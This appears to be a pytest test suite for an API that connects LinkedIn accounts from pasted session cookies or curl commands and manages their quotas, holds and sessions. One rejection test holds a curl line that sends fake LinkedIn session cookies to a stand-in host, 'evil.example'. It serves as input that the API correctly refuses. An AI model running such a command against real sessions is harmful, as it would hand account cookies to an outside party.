"""Accounts over the management API."""

import json
from datetime import UTC, datetime, timedelta
from functools import partial
from typing import Any

import pytest

from confrere.domain.account import UNTIL_RELEASED
from confrere.domain.attempt import Unreadable
from confrere.domain.keys import Scope
from confrere.domain.outcome import SessionDead, Throttled
from confrere.domain.session import Member
from confrere.store.rows import to_micros
from confrere.store.script import run_query
from tests.contract.api.conftest import Api
from tests.contract.api.management import calling

COOKIES = 'li_at=AQED-very-secret; JSESSIONID="ajax:4711"'
CURL = (
    "curl 'https://www.linkedin.com/voyager/api/me' -H 'user-agent: Mozilla/5.0 (Test)' "
    f"-b '{COOKIES}' -H 'csrf-token: ajax:4711'"
)
PER = Member("urn:li:fsd_profile:ACoAAPer", "Per", "Sample", "per-sample")


async def test_accounts_are_listed_and_read(api: Api) -> None:
    """The list returns every account on one page, and one account is returned with its quotas."""
    async with calling(api, Scope.READ) as caller:
        page = await caller.get("/accounts")
        [account] = page["items"]
        assert page["nextCursor"] is None
        assert (account["id"], account["firstName"], account["isDefault"]) == (api.account.id, "Odile", True)
        assert (account["status"], account["hasSession"], account["dailyLimit"]) == ("AVAILABLE", True, 150)
        assert account["sessionConnectedAt"] == account["sessionAnsweredAt"] == account["createdAt"]
        detail = await caller.get(f"/accounts/{api.account.id.upper()}")
        assert [quota["feature"] for quota in detail.pop("quotas")] == [
            "MESSAGE",
            "GROUP_MEMBERS",
            "GROUP_FIRST_CONTACT",
        ]
        assert set(detail.pop("pacing").values()) == {None}
        assert detail == account
    assert api.upstream.probes == 1  # when the test began


@pytest.mark.parametrize(
    "body",
    [
        {"pasted": CURL},
        {"pasted": COOKIES, "userAgent": "Mozilla/5.0 (Test)"},
        {"pasted": f"Cookie: {COOKIES}\nUser-Agent: Mozilla/5.0 (Test)", "userAgent": None},
    ],
)
async def test_an_account_is_connected_with_what_was_pasted(api: Api, body: dict[str, Any]) -> None:
    """A pasted session connects an account after one query to LinkedIn, and no answer ever holds a cookie."""
    api.upstream.member, before = PER, api.upstream.probes
    async with calling(api, Scope.ADMIN) as caller:
        answer = await caller.ask("POST", "/accounts", json=body)
        assert (answer.status, answer.body["firstName"], answer.body["isDefault"]) == (201, "Per", False)
        assert answer.headers["Location"] == f"/v1/accounts/{answer.body['id']}"
        page = await caller.get("/accounts")
    assert api.upstream.probes == before + 1
    assert len(page["items"]) == 2
    for secret in ("very-secret", "ajax:4711"):
        assert secret not in answer.text + json.dumps(page)


async def test_a_known_account_keeps_its_id_and_settings(api: Api) -> None:
    """A member who connects again keeps id and settings, and the account becomes available again."""
    async with calling(api, Scope.ADMIN) as caller:
        await caller.ask("PATCH", f"/accounts/{api.account.id}", json={"dailyLimit": 7})
        await caller.ask("DELETE", f"/accounts/{api.account.id}/session")
        again = await caller.post("/accounts", {"pasted": CURL}, 201)
    assert (again["id"], again["dailyLimit"], again["hasSession"]) == (api.account.id, 7, True)


@pytest.mark.parametrize(
    ("body", "field"),
    [
        ({}, "pasted"),
        ({"pasted": " "}, "pasted"),
        ({"pasted": 5}, "pasted"),
        ({"pasted": "li_at=secret-value"}, "pasted"),
        ({"pasted": "curl 'https://evil.example/' -b 'li_at=secret-value; JSESSIONID=1'"}, "pasted"),
        ({"pasted": "x" * 100_001}, "pasted"),
        ({"pasted": COOKIES}, "userAgent"),
        ({"pasted": COOKIES, "userAgent": 5}, "userAgent"),
        ({"pasted": COOKIES, "userAgent": "x" * 2_000}, "userAgent"),
    ],
)
async def test_what_holds_no_session_is_refused(api: Api, body: dict[str, Any], field: str) -> None:
    """A text without a session is rejected by field, without its value and without asking LinkedIn."""
    before = api.upstream.probes
    async with calling(api, Scope.ADMIN) as caller:
        answer = await caller.ask("POST", "/accounts", json=body)
    assert answer.problem(400, "invalidField")["field"] == field
    assert "secret-value" not in answer.text
    assert api.upstream.probes == before


@pytest.mark.parametrize(
    ("result", "status", "kind"),
    [
        (SessionDead("LinkedIn asked to log in"), 422, "sessionRefused"),
        (Throttled(429, 1800), 429, "linkedinThrottles"),
        (Unreadable("LinkedIn did not answer in time"), 502, "linkedinUnreadable"),
    ],
)
async def test_a_session_that_linkedin_does_not_take_is_not_kept(api: Api, result: Any, status: int, kind: str) -> None:
    """A session that is refused, throttled or unreadable is not stored, and each has its own status."""
    api.upstream.member = result
    async with calling(api, Scope.ADMIN) as caller:
        answer = await caller.ask("POST", "/accounts", json={"pasted": CURL})
        answer.problem(status, kind)
        assert len((await caller.get("/accounts"))["items"]) == 1
    if status == 429:
        assert answer.headers["Retry-After"] == "1800"


async def test_an_account_is_changed(api: Api) -> None:
    """A PATCH changes the given fields; absent fields and null change nothing."""
    api.upstream.member = PER
    async with calling(api, Scope.ADMIN) as caller:
        per = (await caller.post("/accounts", {"pasted": CURL}, 201))["id"]

        async def change(**fields: object) -> Any:
            answer = await caller.ask("PATCH", f"/accounts/{per}", json=fields)
            assert answer.status == 200
            return answer.body

        assert (await change(dailyLimit=12))["dailyLimit"] == 12
        assert (await change(dailyLimit=None, enabled=False))["enabled"] is False
        changed = await change(enabled=True, isDefault=True, somethingElse=1)
        assert (changed["dailyLimit"], changed["enabled"], changed["isDefault"]) == (12, True, True)
        assert changed["quotas"][0]["limit"] == 12
        assert await change() == changed
        assert [account["id"] for account in (await caller.get("/accounts"))["items"]] == [per, api.account.id]


@pytest.mark.parametrize(
    ("body", "field"),
    [
        ({"dailyLimit": 151}, "dailyLimit"),
        ({"dailyLimit": -1}, "dailyLimit"),
        ({"dailyLimit": 1.5}, "dailyLimit"),
        ({"dailyLimit": True}, "dailyLimit"),
        ({"dailyLimit": "5"}, "dailyLimit"),
        ({"enabled": 1}, "enabled"),
        ({"isDefault": False}, "isDefault"),
        ({"isDefault": 1}, "isDefault"),
    ],
)
async def test_a_change_that_cannot_be_made_changes_nothing(api: Api, body: dict[str, Any], field: str) -> None:
    """A PATCH with one wrong field changes nothing, the correct fields included."""
    async with calling(api, Scope.ADMIN) as caller:
        before = await caller.get("/accounts")
        answer = await caller.ask(
            "PATCH", f"/accounts/{api.account.id}", json={"dailyLimit": 5, "enabled": False} | body
        )
        assert answer.problem(400, "invalidField")["field"] == field
        assert await caller.get("/accounts") == before


async def test_a_session_is_checked_with_one_question(api: Api) -> None:
    """A check asks LinkedIn once; a dead session is recorded, and without an answer the result is unknown."""
    async with calling(api, Scope.ADMIN) as caller:
        path, before = f"/accounts/{api.account.id}/check", api.upstream.probes
        found = await caller.post(path)
        assert (found["alive"], found["detail"], found["account"]["status"]) == (True, None, "AVAILABLE")
        api.upstream.member = Unreadable("LinkedIn did not answer in time")
        found = await caller.post(path)
        assert (found["alive"], found["detail"]) == (None, "LinkedIn did not answer in time")
        api.upstream.member = SessionDead("LinkedIn asked to log in")
        found = await caller.post(path)
        assert (found["alive"], found["account"]["status"]) == (False, "ERROR")
        assert found["account"]["statusReason"] == "LinkedIn asked to log in"
    assert api.upstream.probes == before + 3


async def test_an_account_on_hold_is_not_asked_about_and_can_be_released(api: Api) -> None:
    """An account on hold is not probed, and stays on hold until it is released."""
    api.upstream.member = Throttled(429, 3600)
    async with calling(api, Scope.ADMIN) as caller:
        path = f"/accounts/{api.account.id}"
        assert (await caller.post(f"{path}/check"))["alive"] is None
        probes = api.upstream.probes
        held = await caller.post(f"{path}/check")
        assert (held["alive"], held["detail"]) == (None, "LinkedIn throttles this account")
        until = datetime.fromisoformat(held["account"]["holdUntil"])
        assert timedelta(minutes=59) < until - datetime.now(UTC) <= timedelta(hours=1)
        assert api.upstream.probes == probes
        assert (await caller.post(f"{path}/release-hold"))["holdUntil"] is None
        assert (await caller.get(path))["holdUntil"] is None


async def test_the_search_for_lost_messages_is_shown_and_ended(api: Api) -> None:
    """After a restore, with its end; not before the account is released."""
    now = to_micros(datetime.now(UTC))
    store: Any = api.services.store
    await store.engine.transact(partial(run_query, "hold_restored", (to_micros(UNTIL_RELEASED), now - 10**9, now)))
    async with calling(api, Scope.ADMIN) as caller:
        path = f"/accounts/{api.account.id}"
        assert (await caller.get(path))["restored"]["looksUntil"] is None
        (await caller.ask("POST", f"{path}/end-restore")).problem(400, "invalidField")
        until = datetime.fromisoformat((await caller.post(f"{path}/release-hold"))["restored"]["looksUntil"])
        assert timedelta(days=29) < until - datetime.now(UTC) <= timedelta(days=30)
        assert (await caller.post(f"{path}/end-restore"))["restored"] is None
        assert (await caller.post(f"{path}/end-restore"))["restored"] is None


async def test_a_session_is_erased(api: Api) -> None:
    """A deleted session leaves the account, which sends nothing any more."""
    async with calling(api, Scope.ADMIN) as caller:
        answer = await caller.ask("DELETE", f"/accounts/{api.account.id}/session")
        assert (answer.status, answer.text) == (204, "")
        gone = await caller.get(f"/accounts/{api.account.id}")
        assert (gone["hasSession"], gone["sessionConnectedAt"], gone["sessionAnsweredAt"]) == (False, None, None)
    assert (await api.send()).status == 500
    assert api.upstream.seen == []


async def test_isolation_accounts_of_another_workspace_do_not_exist(api: Api) -> None:
    """Accounts of another workspace cannot be listed, read, changed or disconnected."""
    async with calling(api, Scope.ADMIN, workspace_id="another") as stranger:
        assert (await stranger.get("/accounts"))["items"] == []
        path = f"/accounts/{api.account.id}"
        for method, rest in (
            ("GET", ""),
            ("PATCH", ""),
            ("POST", "/check"),
            ("POST", "/release-hold"),
            ("POST", "/end-restore"),
        ):
            (await stranger.ask(method, path + rest, json={"enabled": False})).problem(404, "notFound")
        (await stranger.ask("DELETE", f"{path}/session")).problem(404, "notFound")
    async with calling(api, Scope.READ) as caller:
        account = await caller.get(f"/accounts/{api.account.id}")
        assert (account["enabled"], account["hasSession"]) == (True, True)
